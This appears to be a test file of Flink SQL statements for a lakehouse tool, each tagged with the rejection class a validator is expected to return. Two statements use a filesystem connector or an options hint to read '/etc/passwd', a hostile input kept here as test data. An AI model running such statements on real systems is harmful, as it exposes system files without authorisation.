ALTER TABLE lakehouse.ods.orders SET ('commit.callbacks' = 'org.apache.paimon.iceberg.IcebergCommitCallback');

-- ---- Lifecycle SQL follows the buttons' roles ----

-- expect: ROLE
DROP MATERIALIZED TABLE IF EXISTS lakehouse.dws.customer_revenue;

-- expect: ROLE
DROP MATERIALIZED TABLE lakehouse.dws.customer_revenue;

-- expect: SYNTAX
EXPLAIN COMPILE PLAN '/home/freshet/.freshet/flink/warehouse/p.json' FOR INSERT INTO lakehouse.ods.orders SELECT * FROM lakehouse.ods.orders;

-- expect: SYNTAX
CREATE TEMPORARY TABLE broken (line STRING) WITH ('connector' = 'filesystem', 'path' = '/etc/passwd' 'format' = 'raw';

-- expect: SYNTAX
SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('path' = '/etc/passwd') */ WHERE;
